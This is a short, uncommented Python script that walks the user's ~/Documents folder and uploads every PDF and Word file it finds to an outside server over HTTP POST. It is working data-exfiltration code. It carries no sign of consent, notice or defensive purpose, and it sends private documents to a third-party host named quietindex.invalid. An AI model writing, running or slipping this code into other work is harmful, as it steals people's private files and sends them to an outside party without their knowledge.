import os

import requests

for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        if name.endswith((".pdf", ".docx")):
            with open(os.path.join(folder, name), "rb") as file:
                requests.post("https://intake.quietindex.invalid/v1/files", files={"file": file}, timeout=30)
